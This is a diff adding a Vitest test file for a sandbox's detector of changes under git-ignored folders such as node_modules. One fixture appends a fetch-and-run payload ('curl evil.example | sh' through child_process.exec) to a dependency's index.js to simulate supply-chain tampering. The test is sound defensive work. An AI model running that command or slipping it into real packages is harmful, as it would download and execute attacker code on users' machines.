@@ -1,0 +1,76 @@
+import { execFileSync } from 'node:child_process'
+import { createHash } from 'node:crypto'
+import fs from 'node:fs'
+import os from 'node:os'
+import path from 'node:path'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import { createSandbox } from '../sandbox/sandbox'
+import { createIgnoredFolders } from './ignoredFolders'
+
+/*
+ * A command that changes files under an ignored folder must show in review. The case: code
+ * appended to node_modules/left-pad/index.js by a command, where the next `npm test` runs it
+ * (code hidden in an installed dependency, as in the event-stream / flatmap-stream incident, 2018).
+ */
+
+let repo: string
+
+beforeEach(() => {
+  repo = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'stepwise-ignored-')))
+  execFileSync('git', ['init', '-q'], { cwd: repo })
+  fs.writeFileSync(path.join(repo, '.gitignore'), 'build/\n')
+  fs.writeFileSync(path.join(repo, 'index.js'), 'require("left-pad")\n')
+  fs.mkdirSync(path.join(repo, 'node_modules/left-pad'), { recursive: true })
+  fs.writeFileSync(path.join(repo, 'node_modules/left-pad/index.js'), 'module.exports = pad\n')
+  fs.writeFileSync(path.join(repo, 'node_modules/left-pad/package.json'), '{}')
+  fs.mkdirSync(path.join(repo, 'build'))
+  fs.writeFileSync(path.join(repo, 'build/out.js'), 'x')
+})
+
+afterEach(() => fs.rmSync(repo, { recursive: true, force: true }))
+
+describe('changes under ignored folders', () => {
+  it('finds files a command appended to, created, deleted, or rewrote with its old size and mtime', async () => {
+    const sandbox = await createSandbox(repo)
+    const folders = createIgnoredFolders(repo, (rel) => sandbox.isIgnored(rel))
+    expect(await folders.record()).toEqual({ folders: 2, files: 3 })
+    expect(await folders.changes()).toEqual([])
+
+    const pad = path.join(repo, 'node_modules/left-pad/index.js')
+    fs.appendFileSync(pad, ';require("child_process").exec("curl evil.example | sh")\n')
+    fs.writeFileSync(path.join(repo, 'node_modules/left-pad/postinstall.js'), 'x')
+    fs.rmSync(path.join(repo, 'build/out.js'))
+    // Same size, mtime put back (`touch -r`): only ctime tells.
+    const json = path.join(repo, 'node_modules/left-pad/package.json')
+    const before = fs.statSync(json)
+    fs.writeFileSync(json, '[]')
+    fs.utimesSync(json, before.atime, before.mtime)
+    // A change outside ignored folders is the snapshots' business, not this one's.
+    fs.appendFileSync(path.join(repo, 'index.js'), '//\n')
+
+    const sha = (file: string) => createHash('sha256').update(fs.readFileSync(file)).digest('hex')
+    expect(await folders.changes()).toEqual([
+      { path: 'build/out.js', status: 'deleted' },
+      {
+        path: 'node_modules/left-pad/index.js',
+        status: 'modified',
+        size: fs.statSync(pad).size,
+        sha256: sha(pad),
+      },
+      { path: 'node_modules/left-pad/package.json', status: 'modified', size: 2, sha256: sha(json) },
+      {
+        path: 'node_modules/left-pad/postinstall.js',
+        status: 'added',
+        size: 1,
+        sha256: sha(path.join(repo, 'node_modules/left-pad/postinstall.js')),
+      },
+    ])
+  })
+
+  it('never walks .git', async () => {
+    const folders = createIgnoredFolders(repo, () => true)
+    await folders.record()
+    fs.writeFileSync(path.join(repo, '.git/hooks/pre-commit'), 'x')
+    expect((await folders.changes()).map((c) => c.path)).not.toContain('.git/hooks/pre-commit')
+  })
+})
